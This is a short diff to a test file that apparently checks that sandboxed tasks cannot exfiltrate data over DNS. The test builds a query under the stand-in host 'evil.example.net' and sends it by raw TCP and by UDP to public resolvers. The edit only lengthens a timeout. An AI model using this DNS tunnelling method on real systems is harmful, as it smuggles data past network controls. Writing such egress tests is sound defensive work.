@@ -123,7 +123,7 @@ describe.each(suite.accounts)("a task of %s cannot", (account: AccountName) => {
     const packet = Buffer.from(query(`${label()}.evil.example.net`), "base64");
     const framed = Buffer.concat([Buffer.from([0, packet.length]), packet]).toString("latin1");
     const { value, events } = await task().during(async (live) => [
-      await live.js("return h.raw([v], { host: '9.9.9.9', port: 53, pause: 600 })", framed),
+      await live.js("return h.raw([v], { host: '9.9.9.9', port: 53, pause: 1500 })", framed),
       await live.js(
         "return h.udp(v, { host: '1.1.1.1', port: 53, pause: 300 })",
         Buffer.from(label()).toString("base64"),
